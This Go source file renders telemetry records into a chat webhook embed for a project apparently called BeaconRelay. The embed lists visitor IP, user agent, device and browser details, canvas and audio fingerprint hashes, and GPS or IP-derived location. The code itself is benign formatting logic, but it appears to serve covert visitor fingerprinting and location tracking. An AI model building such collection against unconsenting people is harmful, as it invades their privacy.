package notify

import (
	"fmt"
	"strings"
	"time"

	"beaconrelay/internal/types"
)

// Embed colors by location source (decimal color values). Purely
// informational: green for device GPS, blue for network-address estimation,
// grey when no location could be determined.
const (
	colorReported = 0x4CAF50 // Green
	colorResolved = 0x2196F3 // Blue
	colorUnknown  = 0x9E9E9E // Grey
)

// Per-field render caps. Every value embedded in the outgoing document is
// truncated to respect the sink's own per-field size limits, even under
// adversarial oversized input.
const (
	scalarCap     = 256
	structuredCap = 1024
)

// truncationMarker terminates any capped value so consumers can tell a
// truncated field from a naturally short one.
const truncationMarker = "…"

// Renderer maps a telemetry record, its resolved location, and an optional
// attachment into a size-bounded webhook document.
type Renderer struct {
	username string
}

// NewRenderer creates a Renderer. username becomes the webhook display name.
func NewRenderer(username string) *Renderer {
	return &Renderer{username: username}
}

// Render produces the notification document for one record. Field order is
// fixed: identity/network fields first, environment/device fields next,
// location last. Missing values render as the placeholder dash.
func (rn *Renderer) Render(rec *types.TelemetryRecord, loc types.ResolvedLocation, att *types.Attachment) *WebhookPayload {
	ts := rec.ReceivedAt.UTC().Format(time.RFC3339)

	fields := []Field{
		{Name: "Request ID", Value: capScalar(orAbsent(rec.RequestID)), Inline: true},
		{Name: "IP", Value: capScalar(orAbsent(rec.NetworkAddress)), Inline: true},
		{Name: "User-Agent", Value: capScalar(orAbsent(rec.UserAgent))},
		{Name: "Timezone", Value: capScalar(rec.Env("timezone")), Inline: true},
		{Name: "Referrer", Value: capScalar(rec.Env("referrer"))},
		{Name: "Language(s)", Value: capScalar(languages(rec)), Inline: true},
		{Name: "Platform", Value: capScalar(rec.Env("platform")), Inline: true},
		{Name: "HW / RAM", Value: capScalar(hardware(rec)), Inline: true},
		{Name: "Screen", Value: capStructured(rec.Env("screen"))},
		{Name: "Window", Value: capStructured(rec.Env("window"))},
		{Name: "Network", Value: capStructured(rec.Env("connection"))},
		{Name: "Color Scheme", Value: capScalar(rec.Env("colorScheme")), Inline: true},
		{Name: "Plugins", Value: capStructured(rec.Env("plugins"))},
		{Name: "WebGL", Value: capStructured(rec.Env("webgl"))},
		{Name: "Battery", Value: capStructured(rec.Env("battery"))},
		{Name: "Fingerprint", Value: capStructured(fingerprint(rec))},
	}

	var image *EmbedImage
	if att != nil {
		ref := "attachment://" + att.Filename
		fields = append(fields, Field{Name: "Attachment", Value: capScalar(ref)})
		image = &EmbedImage{URL: ref}
	}

	fields = append(fields, Field{Name: "Location", Value: capStructured(locationValue(loc))})

	embed := Embed{
		Title:     "Telemetry Report",
		Color:     sourceColor(loc.Source),
		Fields:    fields,
		Image:     image,
		Footer:    &Footer{Text: fmt.Sprintf("BeaconRelay | location: %s", loc.Source)},
		Timestamp: ts,
	}

	return &WebhookPayload{
		Username: rn.username,
		Content:  fmt.Sprintf("New report - %s", ts),
		Embeds:   []Embed{embed},
	}
}

// sourceColor returns the embed color marker for a location source.
func sourceColor(src types.LocationSource) int {
	switch src {
	case types.LocationReported:
		return colorReported
	case types.LocationResolved:
		return colorResolved
	default:
		return colorUnknown
	}
}

// languages prefers the primary language, falling back to the full list.
func languages(rec *types.TelemetryRecord) string {
	if v := rec.Environment["language"]; v != "" {
		return v
	}
	return rec.Env("languages")
}

// hardware combines core count and device memory into one display value.
func hardware(rec *types.TelemetryRecord) string {
	return fmt.Sprintf("Cores: %s | RAM: %s",
		rec.Env("hardwareConcurrency"),
		rec.Env("deviceMemory"),
	)
}

// fingerprint combines canvas and audio fingerprint hashes when present.
func fingerprint(rec *types.TelemetryRecord) string {
	canvas := rec.Environment["canvasHash"]
	audio := rec.Environment["audioHash"]
	if canvas == "" && audio == "" {
		return types.AbsentValue
	}
	return fmt.Sprintf("Canvas: %s | Audio: %s", orAbsent(canvas), orAbsent(audio))
}

// locationValue renders the resolved location block, mirroring the reported
// vs. derived precedence: coordinates first when known, then place names,
// then ISP.
func locationValue(loc types.ResolvedLocation) string {
	if loc.HasCoordinates() {
		var b strings.Builder
		fmt.Fprintf(&b, "Lat, Lon: %s, %s", loc.Latitude, loc.Longitude)
		if place := placeLine(loc); place != "" {
			b.WriteString("\n" + place)
		}
		if loc.ISP != "" {
			b.WriteString("\nISP: " + loc.ISP)
		}
		return b.String()
	}

	if place := placeLine(loc); place != "" {
		return place
	}
	return types.AbsentValue
}

// placeLine joins the non-empty city/region/country parts.
func placeLine(loc types.ResolvedLocation) string {
	parts := make([]string, 0, 3)
	for _, p := range []string{loc.City, loc.Region, loc.Country} {
		if p != "" {
			parts = append(parts, p)
		}
	}
	return strings.Join(parts, " ")
}

// orAbsent substitutes the placeholder dash for empty values.
func orAbsent(s string) string {
	if s == "" {
		return types.AbsentValue
	}
	return s
}

// capScalar truncates short scalar fields to their render cap.
func capScalar(s string) string {
	return truncate(s, scalarCap)
}

// capStructured truncates structured/JSON-shaped fields to their render cap.
func capStructured(s string) string {
	return truncate(s, structuredCap)
}

// truncate bounds s to max runes-worth of bytes, appending the truncation
// marker. Truncation happens on byte length against the cap so the invariant
// len(field) <= cap holds under any input.
func truncate(s string, max int) string {
	if len(s) <= max {
		return s
	}
	cut := max - len(truncationMarker)
	// Back up to a rune boundary so the capped value stays valid UTF-8.
	for cut > 0 && !utf8RuneStart(s[cut]) {
		cut--
	}
	return s[:cut] + truncationMarker
}

// utf8RuneStart reports whether b is the first byte of a UTF-8 sequence.
func utf8RuneStart(b byte) bool {
	return b&0xC0 != 0x80
}
